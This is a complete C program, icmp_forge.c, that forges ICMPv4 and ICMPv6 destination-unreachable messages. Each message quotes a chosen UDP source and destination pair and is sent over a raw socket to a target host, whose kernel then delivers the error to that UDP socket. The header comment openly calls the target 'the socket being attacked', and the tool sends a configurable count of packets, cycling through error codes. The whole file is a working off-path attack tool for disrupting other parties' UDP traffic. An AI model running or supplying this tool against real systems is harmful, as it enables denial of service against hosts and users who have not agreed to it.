/* icmp_forge.c: sends forged destination-unreachable messages, ICMPv4 (RFC 792) or
 * ICMPv6 (RFC 4443 §3.1) by the addresses' family, that quote a UDP datagram from
 * SRC:SPORT to DST:DPORT, as a router would, so the kernel hands the error to the UDP
 * socket of that 5-tuple (RFC 1122 4.1.3.3). Needs a raw socket: root, or CAP_NET_RAW in
 * a network namespace of one's own (unshare -rn).
 * Usage: icmp_forge SRC SPORT DST DPORT CODE[,CODE...] COUNT INTERVAL_MS
 * Sends COUNT messages, cycling through the codes, INTERVAL_MS apart, to SRC (the
 * socket being attacked). Prints how many of each code were sent. */
#define _POSIX_C_SOURCE 200809L
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CODES 16

/* RFC 1071 Internet checksum. */
static uint16_t csum(const uint8_t *p, size_t n)
{
    uint32_t s = 0;
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)p[i] << 8 | p[i + 1];
    if (n & 1)
        s += (uint32_t)p[n - 1] << 8;
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static long number(const char *s, long lo, long hi, const char *what)
{
    char *end;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno || *end || end == s || v < lo || v > hi) {
        fprintf(stderr, "icmp_forge: bad %s: %s\n", what, s);
        exit(2);
    }
    return v;
}

static void pause_ms(long ms)
{
    struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
    nanosleep(&ts, NULL);
}

/* ICMPv6 destination unreachable (type 1): its header (8; the kernel fills the checksum
 * of a raw ICMPv6 socket), the quoted IPv6 header (40) and the UDP header (8). */
static int forge6(int fd, const struct in6_addr *src, const struct in6_addr *dst, uint16_t sport,
                  uint16_t dport, const int *codes, int ncodes, long *sent, long count, long gap_ms)
{
    uint8_t m[8 + 40 + 8];
    struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_addr = *src };
    for (long i = 0; i < count; i++) {
        memset(m, 0, sizeof m);
        m[0] = 1;
        m[1] = (uint8_t)codes[i % ncodes];
        uint8_t *ip = m + 8;
        ip[0] = 0x60;          /* version 6 */
        put16(ip + 4, 8 + 12); /* payload: the UDP header and 12 bytes */
        ip[6] = IPPROTO_UDP;
        ip[7] = 64;
        memcpy(ip + 8, src, 16);
        memcpy(ip + 24, dst, 16);
        uint8_t *udp = ip + 40;
        put16(udp, sport);
        put16(udp + 2, dport);
        put16(udp + 4, 8 + 12);
        if (sendto(fd, m, sizeof m, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof m) {
            fprintf(stderr, "icmp_forge: sendto: %s\n", strerror(errno));
            return 1;
        }
        sent[i % ncodes]++;
        pause_ms(gap_ms);
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 8) {
        fprintf(stderr, "usage: icmp_forge SRC SPORT DST DPORT CODE[,CODE...] COUNT INTERVAL_MS\n");
        return 2;
    }
    struct in_addr src, dst;
    struct in6_addr src6, dst6;
    int v6 = 0;
    if (inet_pton(AF_INET6, argv[1], &src6) == 1 && inet_pton(AF_INET6, argv[3], &dst6) == 1) {
        v6 = 1;
    } else if (inet_pton(AF_INET, argv[1], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) {
        fprintf(stderr, "icmp_forge: SRC and DST are both IPv4 or both IPv6 addresses\n");
        return 2;
    }
    uint16_t sport = (uint16_t)number(argv[2], 1, 65535, "SPORT");
    uint16_t dport = (uint16_t)number(argv[4], 1, 65535, "DPORT");
    int codes[MAX_CODES], ncodes = 0;
    long sent[MAX_CODES] = { 0 };
    for (char *tok = strtok(argv[5], ","); tok && ncodes < MAX_CODES; tok = strtok(NULL, ","))
        codes[ncodes++] = (int)number(tok, 0, 15, "CODE");
    if (ncodes == 0)
        return 2;
    long count = number(argv[6], 1, 100000, "COUNT");
    long gap_ms = number(argv[7], 0, 10000, "INTERVAL_MS");

    int fd =
        v6 ? socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6) : socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) {
        fprintf(stderr, "icmp_forge: raw socket: %s\n", strerror(errno));
        return 1;
    }
    if (v6) {
        int rc = forge6(fd, &src6, &dst6, sport, dport, codes, ncodes, sent, count, gap_ms);
        close(fd);
        for (int k = 0; rc == 0 && k < ncodes; k++)
            printf("code %d: %ld sent\n", codes[k], sent[k]);
        return rc;
    }

    /* ICMP header (8) + the quoted IPv4 header (20) + the first 8 bytes of the datagram:
     * its UDP header, which is all the kernel needs to find the socket. */
    uint8_t m[8 + 20 + 8];
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = src };
    for (long i = 0; i < count; i++) {
        int code = codes[i % ncodes];
        memset(m, 0, sizeof m);
        m[0] = 3; /* destination unreachable */
        m[1] = (uint8_t)code;
        uint8_t *ip = m + 8;
        ip[0] = 0x45; /* IPv4, 5 words */
        put16(ip + 2, 20 + 8 + 12);
        ip[8] = 64;
        ip[9] = IPPROTO_UDP;
        memcpy(ip + 12, &src, 4);
        memcpy(ip + 16, &dst, 4);
        put16(ip + 10, csum(ip, 20));
        uint8_t *udp = ip + 20;
        put16(udp, sport);
        put16(udp + 2, dport);
        put16(udp + 4, 8 + 12);
        put16(m + 2, csum(m, sizeof m));
        if (sendto(fd, m, sizeof m, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof m) {
            fprintf(stderr, "icmp_forge: sendto: %s\n", strerror(errno));
            close(fd);
            return 1;
        }
        sent[i % ncodes]++;
        pause_ms(gap_ms);
    }
    close(fd);
    for (int k = 0; k < ncodes; k++)
        printf("code %d: %ld sent\n", codes[k], sent[k]);
    return 0;
}
